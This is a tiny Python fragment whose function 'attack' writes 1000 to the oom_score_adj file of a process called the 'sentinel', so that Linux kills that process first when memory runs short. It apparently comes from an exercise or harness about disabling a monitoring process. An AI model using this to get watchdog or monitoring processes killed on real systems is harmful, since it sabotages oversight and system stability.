"""Makes another process the first that dies when memory runs short."""


def attack(A):
    with open(f"/proc/{TARGET['sentinel']}/oom_score_adj", "w") as file:
        file.write("1000")
